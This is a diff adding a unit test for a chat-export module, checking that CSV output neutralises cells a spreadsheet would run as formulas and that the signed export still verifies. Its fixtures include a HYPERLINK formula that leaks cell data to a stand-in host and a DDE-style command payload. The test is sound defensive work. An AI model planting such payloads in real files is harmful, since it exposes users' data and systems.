@@ -36,6 +36,25 @@ describe('export', () => {
     })
   }
 
+  it('csv: neutralises cells a spreadsheet would run as formulas, and still verifies', async () => {
+    const key = await generateIdentityKey()
+    const texts = ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1', '-2+3', '\tx', '\rx', "'already quoted", 'plain']
+    const records: ExportRecord[] = texts.map((text, i) => ({ kind: 'message', time: i, author: 'a', authorName: i === 0 ? '=cmd' : 'Ann', text, id: `m${i}`, seq: i + 1, epoch: 1 }))
+    const lines = await buildExport({
+      org: 'o', team: 'general', exportedBy: peerIdOfPublicKey(key.publicKey.raw), exportedByName: 'Ann',
+      publicKey: Buffer.from(key.publicKey.raw).toString('base64'), exportedAt: 10
+    }, records, async d => signForDomain(key, EXPORT_DOMAIN, d), 'csv')
+    // every cell of every record line: none starts with a formula character once unquoted
+    for (const line of lines.slice(1)) {
+      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
+        const value = cell.replace(/,$/, '').replace(/^"(.*)"$/s, '$1')
+        expect(value).not.toMatch(/^[=+\-@\t\r]/)
+      }
+    }
+    expect(lines.join('\n')).toContain("'=HYPERLINK(")
+    expect(await verifyExport(lines.join('\n') + '\n')).toMatchObject({ records: texts.length })
+  })
+
   it('catches a recomputed chain: the signature covers the last hash', async () => {
     const lines = await sample('jsonl')
     const other = await sample('jsonl')
